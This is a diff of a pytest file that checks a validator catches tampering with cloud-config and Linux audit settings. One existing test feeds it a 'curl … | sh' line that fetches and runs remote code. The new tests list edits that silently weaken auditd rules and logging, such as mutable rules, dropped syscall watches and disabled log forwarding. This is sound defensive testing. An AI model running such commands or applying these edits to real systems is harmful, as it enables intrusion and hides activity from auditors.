@@ -192,3 +192,49 @@ def test_runcmd_as_a_shell_string_is_caught(tmp_path: Path) -> None:
     document = rp.check_cloud_config_fast(user_data + "  - curl http://203.0.113.9/x | sh\n")
     with pytest.raises(AssertionError, match="runcmd"):
         oracle.check_cloud_config_document(document, host)
+
+
+AUDIT_RULES = "/etc/audit/rules.d/50-ccaas-baseline.rules"
+# Edits a careless colleague or an attacker with write access to the template would make: each weakens the
+# PCI DSS 10.2.1 trail while the file stays valid for auditctl. (old, new) replaces the first match.
+AUDIT_EDITS = [
+    ("b32 failed-access rule dropped", "-a always,exit -F arch=b32 -S creat,open,openat,open_by_handle_at,", "#"),
+    ("EPERM no longer recorded", "-F exit=-EPERM", "-F exit=-ENOENT"),
+    (
+        "deletions only for uid 10000+",
+        "unlinkat,rename,renameat,renameat2 -F auid>=1000",
+        "unlinkat,rename -F auid>=10000",
+    ),
+    ("chown left out", "-S chown,fchown,lchown,fchownat -F", "-S fchownat -F"),
+    ("an exclude silences a key", "-D\n", "-D\n-a never,exit -F arch=b64 -S openat -k quiet\n"),
+    ("rules left mutable", "-e 2", "-e 1"),
+    ("audit logs read unrecorded", "-w /var/log/audit/ -p rwa", "-w /var/log/audit/ -p wa"),
+    ("mounts only as root", "-S mount,umount2 -F auid>=1000 -F auid!=unset", "-S mount,umount2 -F auid=0"),
+    ("sudo no longer a privileged command", "-F path=/usr/bin/sudo -F perm=x", "-F path=/usr/bin/sudoedit -F perm=x"),
+    ("a rule without a key", "-S sethostname,setdomainname -k system-locale\n-a", "-S sethostname,setdomainname\n-a"),
+]
+AUDITD_EDITS = [
+    (
+        "auditd deletes old logs",
+        "/etc/audit/auditd.conf",
+        "max_log_file_action = KEEP_LOGS",
+        "max_log_file_action = ROTATE",
+    ),
+    ("a full disk only suspends", "/etc/audit/auditd.conf", "disk_full_action = SINGLE", "disk_full_action = SUSPEND"),
+    ("warning after the stop", "/etc/audit/auditd.conf", "space_left = 200", "space_left = 50"),
+    ("set twice, last wins", "/etc/audit/auditd.conf", "plugin_dir", "write_logs = no\nplugin_dir"),
+    ("events no longer leave the host", "/etc/audit/plugins.d/syslog.conf", "active = yes", "active = no"),
+]
+
+
+@pytest.mark.parametrize(
+    ("case", "path", "old", "new"),
+    [(c, AUDIT_RULES, o, n) for c, o, n in AUDIT_EDITS] + AUDITD_EDITS,
+    ids=[c for c, *_ in AUDIT_EDITS] + [c for c, *_ in AUDITD_EDITS],
+)
+def test_a_weakened_audit_trail_is_caught(case: str, path: str, old: str, new: str, tmp_path: Path) -> None:
+    host, files, _ = host_for("dev", "db", tmp_path)
+    (text,) = [f["content"] for f in files if f["path"] == path]
+    assert old in text, f"{case}: the edit no longer applies to the rendered file"
+    with pytest.raises(AssertionError):
+        oracle.CHECKS[path](text.replace(old, new, 1), host)
